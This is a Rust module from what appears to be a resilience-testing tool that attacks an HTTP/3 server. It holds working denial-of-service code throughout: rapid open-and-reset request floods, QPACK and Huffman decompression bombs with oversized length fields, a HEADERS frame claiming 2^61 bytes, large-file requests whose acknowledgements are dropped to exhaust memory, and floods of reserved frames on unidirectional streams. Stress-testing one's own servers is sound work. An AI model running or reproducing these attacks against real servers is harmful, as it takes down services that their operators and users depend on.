//! HTTP/3: requests that are reset, bombs of QPACK, and floods of frames.

use std::rc::Rc;
use std::time::Duration;

use braid_transport::Dir;
use tokio::task::yield_now;
use tokio::time::timeout;

use crate::attacker::Attacker;
use crate::http::{HEADERS, HTTP3, LARGE_FILE, connect_http3, expect_body, frame3, section3, tls};
use crate::relay::Relay;
use crate::stream::LOCAL;

/// Connections at a time.
const CLIENTS: usize = 9;
/// Connections without acknowledgements, and requests on each of them.
const SILENT: usize = 4;
const UNACKNOWLEDGED: usize = 64;
/// Payload of a large frame: just below the size at which the front discards frames.
const LARGE: usize = 65_000;
/// Code of a request that is no longer wanted (RFC 9114, 8.1).
const H3_REQUEST_CANCELLED: u64 = 0x10c;
/// Type of a frame that has no meaning (RFC 9114, 7.2.8).
const RESERVED: u8 = 0x21;
const SETTINGS: u8 = 4;

/// Requests that are opened and reset at full speed.
pub(crate) async fn resets(attacker: Rc<Attacker>) {
    let tls = tls(&attacker.target, HTTP3);
    let flood = move |attacker: Rc<Attacker>, at: usize| {
        let tls = tls.clone();
        async move {
            let mut client = connect_http3(attacker.target.http(), &tls, LOCAL).await?;
            let request = frame3(HEADERS, &section3("/"));
            // All of a head, or its first byte.
            let sent = if at.is_multiple_of(2) { &request[..] } else { &request[..1] };
            loop {
                let stream = client.open(Dir::Bidi).await?;
                client.write(stream, sent).await?;
                client.abort(stream, H3_REQUEST_CANCELLED);
                attacker.count(1);
                yield_now().await;
            }
        }
    };
    attacker.workers(CLIENTS, flood).await;
}

/// Requests for a large file, of whose responses nothing is acknowledged.
pub(crate) async fn unacknowledged(attacker: Rc<Attacker>) {
    let served = expect_body(&attacker.target, LARGE_FILE).await;
    if attacker.prepared("a request", served).is_none() {
        return;
    }
    let tls = tls(&attacker.target, HTTP3);
    let ask = move |attacker: Rc<Attacker>, _at| {
        let tls = tls.clone();
        async move {
            let relay = Relay::to(attacker.target.http(), 1).await?;
            let mut client = connect_http3(relay.address, &tls, LOCAL).await?;
            // The broker serves requests when its handshake is complete.
            client.linger(Duration::from_millis(200)).await?;
            for _ in 0..UNACKNOWLEDGED {
                let stream = client.open(Dir::Bidi).await?;
                client.write(stream, &frame3(HEADERS, &section3(LARGE_FILE))).await?;
                client.finish(stream);
                attacker.count(1);
            }
            client.linger(Duration::from_millis(50)).await?;
            relay.drop_answers();
            // Its probes keep the connection alive.
            client.linger(Duration::from_secs(600)).await
        }
    };
    attacker.workers(SILENT, ask).await;
}

/// Bytes of request streams: field sections that cost more to decode than to send, or more to keep, and other frames.
fn bombs() -> [Vec<u8>; 6] {
    let get = section3("/");
    let with = |fields: &[u8]| frame3(HEADERS, &[&get, fields].concat());
    // A literal name and value with lengths of 62 bits.
    let endless = [&[0x27][..], &[0xff; 8], &[0x3f]].concat();
    [
        // A field of the dynamic table, which is empty.
        frame3(HEADERS, &[2, 0, 0x80]),
        with(&endless),
        // `accept-encoding: gzip, deflate, br` of the static table.
        with(&[0xdf].repeat(LARGE - get.len())),
        // A value of 64,500 bytes of codes with 5 bits (Huffman): 103,200 bytes when it is decoded.
        with(&[&b"\x21a\xff\xf5\xf6\x03"[..], &[0; 64_500]].concat()),
        // HEADERS that claims 2^61 bytes.
        [&[HEADERS, 0xe0, 0, 0, 0, 0, 0, 0, 0][..], &[0xdf; LARGE]].concat(),
        [frame3(RESERVED, &[0; LARGE]).repeat(16), frame3(HEADERS, &get)].concat(),
    ]
}

/// Bytes of unidirectional streams, and those that follow them at full speed.
fn streams() -> [(Vec<u8>, Vec<u8>); 3] {
    let unknown = [RESERVED, 1, 0].repeat(1_000);
    [
        ([&[0][..], &frame3(SETTINGS, &[])].concat(), unknown),
        // Entries for the dynamic table, and cancellations of streams: the front reads neither.
        (vec![2, 0x3f, 0xe1, 0x1f], b"\x41a\x01b".repeat(1_000)),
        (vec![3], vec![0x40; 4_000]),
    ]
}

/// Request streams with [`bombs`], and floods on [`streams`].
pub(crate) async fn frames(attacker: Rc<Attacker>) {
    let tls = tls(&attacker.target, HTTP3);
    let (bombs, floods) = (Rc::new(bombs()), Rc::new(streams()));
    let flood = move |attacker: Rc<Attacker>, at: usize| {
        let (tls, bombs, floods) = (tls.clone(), Rc::clone(&bombs), Rc::clone(&floods));
        async move {
            let mut client = connect_http3(attacker.target.http(), &tls, LOCAL).await?;
            if let Some(bomb) = bombs.get(at % (bombs.len() + 1)) {
                loop {
                    let stream = client.open(Dir::Bidi).await?;
                    match client.write(stream, bomb).await {
                        // The broker has answered before it had all.
                        Err(error) if error.kind() != std::io::ErrorKind::NotConnected => return Err(error),
                        _ => client.finish(stream),
                    }
                    attacker.count(1);
                    yield_now().await;
                }
            }
            let mut open = Vec::new();
            for (first, _) in floods.iter() {
                let stream = client.open(Dir::Uni).await?;
                client.write(stream, first).await?;
                open.push(stream);
            }
            loop {
                for (stream, (_, rest)) in open.iter().zip(floods.iter()) {
                    // Flow control stops those that are not read.
                    if let Ok(written) = timeout(Duration::from_millis(10), client.write(*stream, rest)).await
                    {
                        written?;
                        attacker.count(1_000);
                    }
                }
            }
        }
    };
    attacker.workers(CLIENTS, flood).await;
}
